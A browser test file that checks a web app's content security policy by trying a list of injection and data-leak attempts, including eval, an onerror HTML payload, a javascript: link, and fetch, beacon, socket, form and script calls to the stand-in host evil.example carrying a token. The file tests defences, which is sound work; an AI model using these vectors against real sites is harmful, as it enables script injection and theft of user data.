import { expect, test } from './fixtures.ts'

/** Ways to run code or to send data elsewhere that an injected text could try. */
const ATTACKS: Readonly<Record<string, (window: Window & typeof globalThis) => unknown>> = {
  'an inline script': ({ document }) => {
    const script = document.createElement('script')
    script.append('window.broken = 1')
    document.body.append(script)
  },
  'a script of another host': ({ document }) => {
    const script = document.createElement('script')
    Object.assign(script, { src: 'https://evil.example/x.js' })
    document.body.append(script)
  },
  eval: window =>
    Reflect.apply(Reflect.get(window, 'eval') as (code: string) => void, window, ['window.broken = 1']),
  'a function of a text': window => Reflect.construct(window.Function, ['window.broken = 1'])(),
  'a handler in HTML': ({ document }) => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.broken = 1">')
  },
  innerHTML: ({ document }) => {
    document.createElement('div').innerHTML = '<img src="x:" onerror="window.broken = 1">'
  },
  'a link to code': ({ document }) => {
    const link = document.createElement('a')
    link.setAttribute('href', 'javascript:window.broken=1')
    document.body.append(link)
    link.click()
  },
  'a frame': ({ document }) => {
    const frame = document.createElement('iframe')
    Object.assign(frame, { src: 'https://evil.example/' })
    document.body.append(frame)
  },
  'an embedded object': ({ document }) => {
    const object = document.createElement('object')
    Object.assign(object, { data: 'https://evil.example/' })
    document.body.append(object)
  },
  'a form to another host': ({ document }) => {
    const form = document.createElement('form')
    Object.assign(form, { action: 'https://evil.example/', method: 'post' })
    document.body.append(form)
    form.submit()
  },
  'another base': ({ document }) => {
    const base = document.createElement('base')
    Object.assign(base, { href: 'https://evil.example/' })
    document.head.append(base)
    if (new URL('x', document.baseURI).host === 'evil.example') Reflect.set(window, 'broken', 1)
  },
  'a call to another host': ({ fetch }) =>
    fetch('https://evil.example/?token=1', { mode: 'no-cors' }).catch(() => {}),
  'a beacon': ({ navigator }) => navigator.sendBeacon('https://evil.example/', 'token'),
  'a socket': ({ WebSocket }) => new WebSocket('wss://evil.example/'),
  'a worker of a text': ({ Worker, URL, Blob }) =>
    new Worker(URL.createObjectURL(new Blob(['fetch("https://evil.example")']))),
  'an inline style': ({ document }) => {
    const style = document.createElement('style')
    style.append('@import "https://evil.example/x.css";')
    document.head.append(style)
  },
}

test('the policy stops injected code, and data on its way to another host', async ({ ready: page }) => {
  const requests: string[] = []
  page.on('request', request => requests.push(request.url()))
  await page.goto('home')
  await expect(page.getByRole('heading').first()).toBeVisible()
  // The violations are what this test is about.
  page.removeAllListeners('console')
  for (const [name, attack] of Object.entries(ATTACKS)) {
    // In a task of the page: developer tools may use eval.
    await page.evaluate(
      `new Promise(done => setTimeout(async () => {
        try { await (${attack.toString()})(window) } catch {}
        requestAnimationFrame(() => requestAnimationFrame(done))
      }))`,
    )
    expect.soft(await page.evaluate(() => Reflect.get(window, 'broken') as unknown), name).toBeUndefined()
    expect
      .soft(
        requests.filter(url => url.includes('evil.example')),
        name,
      )
      .toEqual([])
  }
  expect(page.url()).toMatch(/\/h4\/home$/)
})

test('no other page can frame the app', async ({ ready: page, origin }) => {
  page.removeAllListeners('console')
  await page.evaluate(address => {
    const frame = document.createElement('iframe')
    frame.src = address
    document.body.append(frame)
  }, `${origin}/h4/home`)
  const frame = page.frames()[1]
  await expect.poll(() => frame?.url()).toContain('chrome-error:')
})
